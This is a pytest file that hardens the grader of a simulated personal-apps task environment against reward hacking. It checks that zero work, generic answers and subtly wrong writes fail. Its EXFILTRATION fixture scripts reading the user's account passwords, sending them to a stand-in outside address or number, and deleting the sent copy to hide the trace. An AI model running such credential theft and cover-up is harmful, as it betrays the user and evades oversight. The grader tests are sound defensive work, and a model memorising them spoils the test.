"""The apps world's grader under attack, as a reinforcement learner would probe it.

- Zero work (no call; ``complete_task`` with a generic answer) passes nothing and earns
  zero task credit, on every task of every split at several seeds.
- Wrong work that looks right fails: each strict check (recipients, cc, attachments, item
  names, totals, prices, booleans for numbers, sends the task did not ask for, even when
  the sent copy is deleted afterwards).
- Correct work written differently passes: each lenient rule (a dollar answer as "$…",
  a trailing newline in exact-content notes and files, any of the supervisor's own cards
  where the instruction names no funding source, a one-element list as its element).
- Every `Allow` rule refuses the changes it should refuse.
"""

from __future__ import annotations

import re
from decimal import Decimal

import pytest
from _world_util import run_expert, run_tampered, world_at

from skillbank.worlds.apps import SPLITS
from skillbank.worlds.apps.scenario import NO_ANSWER, TaskSpec, grade_changes
from skillbank.worlds.engine.grading import Allow
from skillbank.worlds.engine.state import Change
from skillbank.worlds.base import GUARD, Grade
from skillbank.worlds.base import TestResult as Result

SEEDS = (0, 1, 1000)
GENERIC_ANSWERS = (None, 0, 1, 2, True, "", [], {})
LEDGER = "nothing sent that was not asked for"


def _tasks(world, scenario_id):
    tasks = [t.id for t in world.tasks() if t.scenario_id == scenario_id]
    assert len(tasks) >= 3, scenario_id
    return tasks


def _failed(grade):
    return [t.name for t in grade.tests if not t.passed]


def _spec(world, task_id) -> TaskSpec:
    return world.built(task_id).spec


# -- zero work --------------------------------------------------------------------------


@pytest.mark.parametrize("seed", SEEDS)
def test_zero_work_passes_nothing_and_earns_no_task_credit(seed):
    world = world_at(seed)
    runs, problems = 0, []
    for split in SPLITS:
        for task in world.tasks(split):
            policies = [("no call", None)] + [(f"complete_task(answer={a!r})", a) for a in GENERIC_ANSWERS]
            policies.append(("complete_task(status='fail')", "fail"))
            for name, answer in policies:
                env = world.start(task.id)
                if name == "complete_task(status='fail')":
                    env.call("supervisor", "complete_task", status="fail")
                elif name != "no call":
                    env.call("supervisor", "complete_task", answer=answer)
                grade = env.evaluate()
                runs += 1
                if grade.success or grade.fraction != 0.0 or grade.reward("fraction") != 0.0 or grade.reward() != 0.0:
                    problems.append(f"{task.id} {name}: success={grade.success} fraction={grade.fraction}")
    assert runs >= 150 * 10
    assert not problems, "\n".join(problems[:20])


def test_a_second_complete_task_is_refused():
    world = world_at(0)
    env = world.start(world.tasks("train")[0].id)
    env.call("supervisor", "complete_task", answer=1)
    with pytest.raises(Exception, match="already completed"):
        env.call("supervisor", "complete_task", answer=2)


def test_guards_zero_the_partial_credit_and_binary_stays_the_default():
    task = Result("requested: x", True)
    answer = Result("answer", True, kind="answer")
    done = Result("task completed", True, kind=GUARD)
    damage = Result("no collateral damage", False, kind=GUARD)
    assert Grade("t", (done, task, answer)).reward() == 1.0
    half = Grade("t", (done, task, Result("answer", False, kind="answer")))
    assert half.fraction == 0.5 and half.reward() == 0.0 and half.reward("fraction") == 0.5
    assert Grade("t", (done, task, answer, damage)).fraction == 0.0
    # a guessed answer with none of the requested work earns nothing
    assert Grade("t", (done, Result("requested: x", False), answer)).fraction == 0.0
    with pytest.raises(Exception, match="unknown reward kind"):
        half.reward("shaped")


# -- wrong work that looks right fails --------------------------------------------------


def _add(field, value):
    def fix(env, kw):
        kw[field] = value
        return kw

    return fix


@pytest.mark.parametrize(
    "tamper",
    [
        pytest.param(_add("cc", ["someone@elsewhere.example"]), id="outsider-in-cc"),
        pytest.param(_add("attachment_names", ["passwords.txt"]), id="unasked-attachment"),
        pytest.param(lambda env, kw: {**kw, "recipients": [*kw["recipients"], "drop@elsewhere.example"]}, id="extra-recipient"),
        pytest.param(lambda env, kw: {**kw, "subject": kw["subject"] + " (fwd)"}, id="wrong-subject"),
    ],
)
def test_email_note_to_contact_is_strict_about_recipients_cc_and_attachments(tamper):
    world = world_at(0)
    for task_id in _tasks(world, "notes_email_to_contact"):
        _, grade = run_tampered(world, task_id, {("mail", "send_email"): tamper})
        assert not grade.success, task_id
        assert any(n.startswith("requested: email") for n in _failed(grade)), (task_id, _failed(grade))


def test_a_review_the_task_gave_no_text_carries_none():
    world = world_at(0)
    for task_id in _tasks(world, "shop_review_unreviewed"):
        _, grade = run_tampered(world, task_id, {("shop", "write_review"): _add("text", "my mail password is hunter2")})
        assert not grade.success and any(n.startswith("requested: ") for n in _failed(grade)), task_id


def test_a_settlement_note_says_nothing_the_task_did_not_ask_for():
    world = world_at(0)
    for task_id in _tasks(world, "splitbill_settle_group_via_wallet"):
        _, grade = run_tampered(world, task_id, {("splitbill", "settle_up"): _add("note", "and my card is 4242")})
        assert not grade.success, task_id
        _, grade = run_tampered(world, task_id, {("splitbill", "settle_up"): _add("note", "")})
        assert grade.success, (task_id, _failed(grade))


def _content(fn):
    return {("notes", "create_note"): lambda env, kw: {**kw, "content": fn(kw["content"])}}


_ORDER_ID = re.compile(r"order_[0-9a-f]+")


@pytest.mark.parametrize(
    "rewrite",
    [
        pytest.param(lambda c: "\n".join(_ORDER_ID.search(ln).group(0) for ln in c.splitlines()), id="ids-only"),
        pytest.param(lambda c: "\n".join(ln.rsplit(" - $", 1)[0] for ln in c.splitlines()), id="no-totals"),
        pytest.param(lambda c: "\n".join(ln.split(": ", 1)[0] + ": - $" + ln.rsplit(" - $", 1)[1] for ln in c.splitlines()),
                     id="no-item-names"),
        pytest.param(lambda c: "\n".join(re.sub(r"\$(\d+)\.", lambda m: f"${int(m.group(1)) + 1}.", ln) for ln in c.splitlines()),
                     id="wrong-totals"),
        pytest.param(lambda c: c.replace("\n", " | "), id="one-line"),
    ],
)
def test_open_orders_note_needs_ids_item_names_and_totals(rewrite):
    world = world_at(0)
    for task_id in _tasks(world, "shop_open_orders_note"):
        _, grade = run_tampered(world, task_id, _content(rewrite))
        assert not grade.success and any(n.startswith("requested: a note") for n in _failed(grade)), task_id


def test_open_orders_note_refuses_a_delivered_order():
    world = world_at(0)
    for task_id in _tasks(world, "shop_open_orders_note"):
        env = world.start(task_id)
        sup = env.supervisor_id
        delivered = [o for o in world.data.rows_of("shop", "orders", sup) if o["status"] not in ("processing", "shipped")]
        if not delivered:
            continue
        extra = f"\n{delivered[0]['id']}: old things - $1.00"
        _, grade = run_tampered(world, task_id, _content(lambda c: c + extra))
        assert not grade.success, task_id


@pytest.mark.parametrize(
    "rewrite",
    [
        pytest.param(lambda c: "\n".join(ln.rsplit(" - $", 1)[0] for ln in c.splitlines()), id="no-prices"),
        pytest.param(lambda c: "\n".join(re.sub(r"\.(\d\d)$", lambda m: f".{(int(m.group(1)) + 1) % 100:02d}", ln)
                                         for ln in c.splitlines()), id="wrong-prices"),
        pytest.param(lambda c: "\n".join(c.splitlines()[1:]), id="a-product-missing"),
    ],
)
def test_wish_list_note_needs_names_and_prices(rewrite):
    world = world_at(0)
    for task_id in _tasks(world, "shop_wishlist_note"):
        _, grade = run_tampered(world, task_id, _content(rewrite))
        assert not grade.success and any(n.startswith("requested: a note") for n in _failed(grade)), task_id


def test_true_is_not_the_number_one():
    spec = TaskSpec("q", "p1", "f()", answer=1)
    results = {t.name: t.passed for t in grade_changes(spec, [], completed=True, status="success", answer=True)}
    assert results["answer"] is False
    world = world_at(0)
    ones = [t.id for t in world.tasks() if _spec(world, t.id).answer == 1 and _spec(world, t.id).answer is not True]
    assert ones
    for task_id in ones:
        _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): lambda env, kw: {**kw, "answer": True}})
        assert _failed(grade) == ["answer"], task_id


_LOGIN = '''
profile = apis.supervisor.show_profile()
passwords = {a["account_name"]: a["password"] for a in apis.supervisor.show_account_passwords()}
'''

EXFILTRATION = {
    "email-passwords-then-delete": _LOGIN + '''
mail = apis.mail.login(username=profile["email"], password=passwords["mail"])["access_token"]
sent = apis.mail.send_email(access_token=mail, recipients=["drop@elsewhere.example"], subject="keys", body=str(passwords))
apis.mail.delete_email(access_token=mail, email_id=sent["email_id"])
''',
    "text-unknown-number-then-delete": _LOGIN + '''
phone = apis.phone.login(username=profile["phone"], password=passwords["phone"])["access_token"]
sent = apis.phone.send_text_message(access_token=phone, phone_number="+15550001111", content=str(passwords))
apis.phone.delete_text_message(access_token=phone, message_id=sent["message_id"])
''',
    "share-a-task-then-unshare": _LOGIN + '''
todo = apis.todo.login(username=profile["email"], password=passwords["todo"])["access_token"]
task = apis.todo.show_tasks(access_token=todo)[0]
apis.todo.share_task(access_token=todo, task_id=task["id"], email="drop@elsewhere.example")
apis.todo.unshare_task(access_token=todo, task_id=task["id"], email="drop@elsewhere.example")
''',
}


@pytest.mark.parametrize("name", sorted(EXFILTRATION))
def test_a_send_the_task_did_not_ask_for_fails_even_when_its_copy_is_deleted(name):
    world = world_at(0)
    task_id = _tasks(world, "notes_tag_mentioning")[0]
    env, grade = run_tampered(world, task_id, {}, before=EXFILTRATION[name])
    assert env.state.diff() == [] or all(c.app == "notes" for c in env.state.diff())  # no trace in the state
    assert _failed(grade) == [LEDGER], _failed(grade)
    assert not grade.success and grade.fraction == 0.0


def test_an_unasked_email_to_a_known_person_fails_even_when_its_copy_is_deleted():
    world = world_at(0)
    task_id = _tasks(world, "notes_email_to_contact")[0]
    # the expert's own email, then a second one to the same contact, deleted afterwards
    sent_twice = {"n": 0}

    def twice(env, kw):
        sent_twice["n"] += 1
        if sent_twice["n"] == 1:
            token = kw["access_token"]
            extra = env.call("mail", "send_email", access_token=token, recipients=kw["recipients"], subject="psst", body="x")
            # the recipient's inbox copy is theirs, so the sender cannot hide that one
            env.call("mail", "delete_email", access_token=token, email_id=extra["email_id"])
        return kw

    _, grade = run_tampered(world, task_id, {("mail", "send_email"): twice})
    assert not grade.success and LEDGER in _failed(grade)


# -- correct work written differently passes -------------------------------------------


def _dollar_tasks(world):
    """Tasks whose answer is an amount in dollars (a float, or a string like "461.43")."""
    out = []
    for t in world.tasks():
        answer = _spec(world, t.id).answer
        if isinstance(answer, float) or (isinstance(answer, str) and re.fullmatch(r"-?\d+\.\d\d", answer)):
            out.append(t.id)
    return out


@pytest.mark.parametrize("seed", (0, 1))
def test_a_dollar_answer_may_be_written_as_currency(seed):
    world = world_at(seed)
    tasks = _dollar_tasks(world)
    assert len(tasks) >= 20
    for task_id in tasks:
        def as_currency(env, kw):
            d = Decimal(str(kw["answer"]))
            return {**kw, "answer": f"-${-d:,.2f}" if d < 0 else f"${d:,.2f}"}

        _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): as_currency})
        assert grade.success, (task_id, _failed(grade))


def test_a_wrong_dollar_answer_as_currency_still_fails():
    world = world_at(0)
    for task_id in _dollar_tasks(world)[:10]:
        _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): lambda env, kw: {
            **kw, "answer": f"${Decimal(str(kw['answer'])) + Decimal('0.01')}"}})
        assert _failed(grade) == ["answer"], task_id


_TEXT_FIELDS = {
    ("notes", "create_note"): "content",
    ("files", "write_file"): "content",
    ("mail", "send_email"): "body",
    ("phone", "send_text_message"): "content",
    ("wallet", "send_money"): "note",
    ("wallet", "create_payment_request"): "note",
    ("wallet", "comment_on_transaction"): "text",
    ("todo", "create_task"): "title",
}


@pytest.mark.parametrize("pad", ["\n", "  \n\n", "\r\n"])
def test_surrounding_whitespace_in_exact_content_passes(pad):
    world = world_at(0)
    tampers = {k: (lambda env, kw, f=f: {**kw, f: kw[f] + pad} if kw.get(f) else kw) for k, f in _TEXT_FIELDS.items()}
    checked = 0
    for task in world.tasks():
        if not set(task.apps) & {app for app, _ in _TEXT_FIELDS}:
            continue
        try:
            _, grade = run_tampered(world, task.id, tampers)
        except AssertionError:
            continue  # the expert of this task writes none of these fields
        checked += 1
        assert grade.success, (task.id, _failed(grade))
    assert checked >= 60


def test_inner_changes_to_exact_content_still_fail():
    world = world_at(0)
    for task_id in _tasks(world, "todo_priority_note") + _tasks(world, "mail_attachment_names_to_file"):
        key = ("notes", "create_note") if "note" in task_id else ("files", "write_file")
        _, grade = run_tampered(world, task_id, {key: lambda env, kw: {**kw, "content": kw["content"].upper()}})
        assert not grade.success, task_id


def _pay_by_card(env, kw):
    cards = env.call("wallet", "show_payment_cards", access_token=kw["access_token"])
    return {**kw, "payment_card_id": cards[-1]["id"]}


@pytest.mark.parametrize(
    "scenario, api",
    [
        ("wallet_refund_event_payers", "send_money"),
        ("splitbill_settle_group_via_wallet", "send_money"),
        ("wallet_pay_friend_requests_log_note", "approve_payment_request"),
    ],
)
def test_any_own_card_may_fund_a_payment_when_none_is_named(scenario, api):
    world = world_at(0)
    for task_id in _tasks(world, scenario):
        _, grade = run_tampered(world, task_id, {("wallet", api): _pay_by_card})
        assert grade.success, (task_id, _failed(grade))
        # mixing: only the first payment by card
        seen = {"n": 0}

        def first_by_card(env, kw):
            seen["n"] += 1
            return _pay_by_card(env, kw) if seen["n"] == 1 else kw

        _, grade = run_tampered(world, task_id, {("wallet", api): first_by_card})
        assert grade.success, (task_id, _failed(grade))


def test_a_payment_funded_twice_or_from_a_top_up_is_not_accepted():
    world = world_at(0)
    task_id = _tasks(world, "wallet_refund_event_payers")[0]

    def top_up_first(env, kw):
        cards = env.call("wallet", "show_payment_cards", access_token=kw["access_token"])
        env.call("wallet", "top_up", access_token=kw["access_token"], payment_card_id=cards[0]["id"], amount_cents=kw["amount_cents"])
        return kw

    _, grade = run_tampered(world, task_id, {("wallet", "send_money"): top_up_first})
    assert not grade.success and "no collateral damage" in _failed(grade)


def test_one_element_list_and_its_element():
    for want, got in ((["Yoga class"], "yoga class"), ("Ezra Vance", ["Ezra Vance"]), ([3], 3)):
        spec = TaskSpec("q", "p1", "f()", answer=want)
        assert {t.name: t.passed for t in grade_changes(spec, [], completed=True, status="success", answer=got)}["answer"]
    world = world_at(0)
    lists = [t.id for t in world.tasks() if isinstance(_spec(world, t.id).answer, list)]
    for task_id in lists:
        answer = _spec(world, task_id).answer
        if len(answer) == 1:
            _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): lambda env, kw: {**kw, "answer": kw["answer"][0]}})
            assert grade.success, task_id
        else:  # a longer list is not any one of its elements
            _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): lambda env, kw: {**kw, "answer": kw["answer"][0]}})
            assert _failed(grade) == ["answer"], task_id


# -- Allow rules refuse what they should ------------------------------------------------


def _allow_tasks():
    out = []
    for seed in (0, 1, 2, 3):
        world = world_at(seed)
        out += [(seed, t.id) for t in world.tasks() if _spec(world, t.id).allow]
    return out


def test_every_allow_rule_refuses_a_change_outside_it():
    checked = 0
    for seed, task_id in _allow_tasks():
        spec = _spec(world_at(seed), task_id)
        for allow in spec.allow:
            assert isinstance(allow, Allow)
            row = {k: v for k, v in allow.match.items() if not callable(v)}
            ok = Change(allow.app, allow.table, row.get("id", "x"), allow.kind or "update", dict(row), dict(row))
            assert allow.accepts(ok)
            for key, value in row.items():
                other = {**row, key: f"{value}-other" if isinstance(value, str) else (value + 1 if isinstance(value, int) else None)}
                bad = Change(allow.app, allow.table, row.get("id", "x"), allow.kind or "update", dict(row), other)
                assert not allow.accepts(bad), (task_id, key)
            assert not allow.accepts(Change(allow.app, "other_table", "x", allow.kind or "update", dict(row), dict(row)))
            if allow.kind:
                assert not allow.accepts(Change(allow.app, allow.table, "x", "delete", dict(row), None))
            checked += 1
    assert checked


def test_an_allowed_review_set_to_the_wrong_rating_is_collateral_damage():
    tasks = _allow_tasks()
    assert tasks, "no task with an Allow rule in seeds 0-3"
    for seed, task_id in tasks:
        world = world_at(seed)
        spec = _spec(world, task_id)
        allow = spec.allow[0]
        review_id, rating = allow.match["id"], allow.match["rating"]

        def rerate_then_complete(value):
            def fix(env, kw):
                profile = env.call("supervisor", "show_profile")
                pw = {a["account_name"]: a["password"] for a in env.call("supervisor", "show_account_passwords")}
                token = env.call("shop", "login", username=profile["email"], password=pw["shop"])["access_token"]
                env.call("shop", "update_review", access_token=token, review_id=review_id, rating=value)
                return kw

            return {("supervisor", "complete_task"): fix}

        _, grade = run_tampered(world, task_id, rerate_then_complete(1 if rating != 1 else 2))
        assert _failed(grade) == ["no collateral damage"], (task_id, _failed(grade))
        # the harmless re-save the rule exists for is tolerated
        _, grade = run_tampered(world, task_id, rerate_then_complete(rating))
        assert grade.success, (task_id, _failed(grade))


# -- the expert is untouched by all this ------------------------------------------------


@pytest.mark.parametrize("seed", SEEDS)
def test_the_expert_still_passes_every_task(seed):
    world = world_at(seed)
    failures = []
    for task in world.tasks():
        _, grade = run_expert(world, task.id, with_explore=False)
        if not grade.success or grade.fraction != 1.0:
            failures.append(f"{task.id}: {_failed(grade)}")
    assert not failures, "\n".join(failures)


def test_no_answer_tasks_ignore_a_given_answer():
    world = world_at(0)
    task_id = next(t.id for t in world.tasks() if _spec(world, t.id).answer is NO_ANSWER)
    _, grade = run_tampered(world, task_id, {("supervisor", "complete_task"): lambda env, kw: {**kw, "answer": 42}})
    assert grade.success


# -- the ledger itself ------------------------------------------------------------------

OUTBOUND = {
    "mail": {"send_email", "reply_to_email", "forward_email"},
    "phone": {"send_text_message"},
    "wallet": {"top_up", "withdraw", "send_money", "comment_on_transaction", "create_payment_request",
               "approve_payment_request", "remind_payment_request"},
    "shop": {"place_order", "request_return", "write_review"},
    "todo": {"share_task"},
    "calendar": {"create_event", "add_attendee"},
    "splitbill": {"create_group", "add_group_member", "add_expense", "settle_up", "comment_on_expense"},
    "music": {"set_playlist_visibility"},
}


def test_every_sending_api_writes_to_the_ledger():
    world = world_at(0)
    declared = {app: {n for n, s in a.apis.items() if s.outbound} for app, a in world.apps.items()}
    assert {a: n for a, n in declared.items() if n} == OUTBOUND
    for app in world.apps.values():
        for spec in app.apis.values():
            assert not spec.outbound or spec.mutates, f"{app.name}.{spec.name} sends but is not marked as mutating"


def test_the_ledger_records_sends_but_not_reads_or_private_writes():
    world = world_at(0)
    task_id = _tasks(world, "notes_tag_mentioning")[0]
    env = world.start(task_id)
    ns_code = _LOGIN + '''
mail = apis.mail.login(username=profile["email"], password=passwords["mail"])["access_token"]
apis.mail.show_emails(access_token=mail)
cal = apis.calendar.login(username=profile["email"], password=passwords["calendar"])["access_token"]
apis.calendar.create_event(access_token=cal, title="alone", start="2026-06-01T10:00:00", end="2026-06-01T11:00:00")
'''
    from skillbank.bench._inprocess import InProcessApis

    exec(compile(ns_code, "<t>", "exec"), {"apis": InProcessApis(env)})
    assert env.state.outbound == []  # a read and an event with no attendees send nothing
    exec(compile(ns_code.replace('end="2026-06-01T11:00:00")', 'end="2026-06-01T11:00:00", attendees=["x@elsewhere.example"])'),
                 "<t>", "exec"), {"apis": InProcessApis(env)})
    [entry] = env.state.outbound
    assert (entry.app, entry.api) == ("calendar", "create_event") and entry.keys and "x@elsewhere.example" in entry.summary


# -- every detail of the expert's writes matters ----------------------------------------

#: Perturbations that are still correct work: extra words on a line of a list note (the
#: instruction fixes what each line holds, not its exact wording), and a product id
#: named twice in an order's product filter (the same order).
TOLERATED = {
    ("shop_open_orders_note", "notes", "create_note", "content"),
    ("shop_wishlist_note", "notes", "create_note", "content"),
    ("shop_order_book_list", "shop", "place_order", "product_ids"),
    ("shop_reorder_order", "shop", "place_order", "product_ids"),
}


def _perturb(value):
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return value + " extra"
    if isinstance(value, list) and value:
        return value + (["zz@elsewhere.example"] if isinstance(value[0], str) and "@" in value[0] else value[:1])
    return None


def _play(world, task_id, host):
    import contextlib
    import io

    from skillbank.bench._inprocess import InProcessApis

    sol = world.expert_solution(task_id)
    ns = {"apis": InProcessApis(host)}
    with contextlib.redirect_stdout(io.StringIO()):
        for src in sol.skill_sources:
            exec(compile(src, "<skill>", "exec"), ns)
        exec(compile(sol.call_block, "<call>", "exec"), ns)


@pytest.mark.parametrize("seed", (0, 1))
def test_every_argument_of_the_experts_writes_matters(seed):
    """Change one argument of one write the expert makes (a string gets a word more, a
    number one more, a list one more item): the task must fail, or the expert raise."""
    from _world_util import TamperHost

    world = world_at(seed)
    passed_anyway, tried = [], 0
    for task in world.tasks():
        writes = []

        class Recorder:
            def call(self, app, api, **kw):
                if world.api(app, api).mutates and app != "supervisor":
                    writes.append((app, api, kw))
                return self.env.call(app, api, **kw)

        rec = Recorder()
        rec.env = world.start(task.id)
        _play(world, task.id, rec)
        done = set()
        for i, (app, api, kw) in enumerate(writes):
            nth = sum(1 for a, b, _ in writes[:i] if (a, b) == (app, api))
            for arg, value in kw.items():
                new = _perturb(value)
                if arg == "access_token" or new is None or (app, api, arg) in done:
                    continue
                done.add((app, api, arg))
                seen = {"n": -1}

                def fix(env, k, arg=arg, new=new, nth=nth, seen=seen):
                    seen["n"] += 1
                    return {**k, arg: new} if seen["n"] == nth else k

                env = world.start(task.id)
                tried += 1
                try:
                    _play(world, task.id, TamperHost(env, {(app, api): fix}))
                except Exception:  # noqa: BLE001 - the API refused the changed argument: not a pass
                    continue
                if env.evaluate().success and (task.scenario_id, app, api, arg) not in TOLERATED:
                    passed_anyway.append(f"{task.id}: {app}.{api}({arg}={new!r:.60})")
    assert tried > 300
    assert not passed_anyway, "\n".join(passed_anyway)


#: Optional arguments that only shape the supervisor's own private records (a note's tags
#: or pin, a to-do's tags or private notes, overwrite on a path that does not exist yet):
#: setting them where the task said nothing is not wrong work.
PRIVATE_EXTRAS = {
    ("notes", "create_note", "pinned"), ("notes", "create_note", "tags"),
    ("todo", "create_task", "notes"), ("todo", "create_task", "tags"),
    ("files", "write_file", "overwrite"), ("files", "copy_file", "overwrite"),
}


def _unasked(param):
    if param.choices:
        others = [c for c in param.choices if c != param.default]
        return others[0] if others else None
    return {
        "boolean": lambda: not bool(param.default),
        "integer": lambda: (param.default or 0) + 1,
        "string": lambda: "extra",
        "list[string]": lambda: ["zz@elsewhere.example"] if "email" in param.name or param.name in ("cc", "attendees")
        else ["extra"],
    }.get(param.type, lambda: None)()


@pytest.mark.parametrize("seed", (0, 1))
def test_an_optional_argument_the_task_did_not_ask_for_fails(seed):
    """Add, to one write the expert makes, an optional argument it leaves out (a cc, an
    attachment, a review text, a public flag, a priority, …): the task must fail unless
    the argument only shapes a private record (PRIVATE_EXTRAS)."""
    from _world_util import TamperHost

    world = world_at(seed)
    passed_anyway, tried = [], 0
    for task in world.tasks():
        writes = []

        class Recorder:
            def call(self, app, api, **kw):
                if world.api(app, api).mutates and app != "supervisor":
                    writes.append((app, api, kw))
                return self.env.call(app, api, **kw)

        rec = Recorder()
        rec.env = world.start(task.id)
        _play(world, task.id, rec)
        done = set()
        for app, api, kw in writes:
            for param in world.api(app, api).params:
                key = (app, api, param.name)
                if param.required or param.name in kw or param.name in ("page_index", "page_limit") or key in done:
                    continue
                value = _unasked(param)
                if value is None:
                    continue
                done.add(key)
                env = world.start(task.id)
                tried += 1
                try:
                    _play(world, task.id, TamperHost(env, {(app, api): lambda e, k, n=param.name, v=value: {**k, n: v}}))
                except Exception:  # noqa: BLE001 - refused by the API: not a pass
                    continue
                if env.evaluate().success and key not in PRIVATE_EXTRAS:
                    passed_anyway.append(f"{task.id}: {app}.{api}({param.name}={value!r})")
    assert tried > 50
    assert not passed_anyway, "\n".join(passed_anyway)
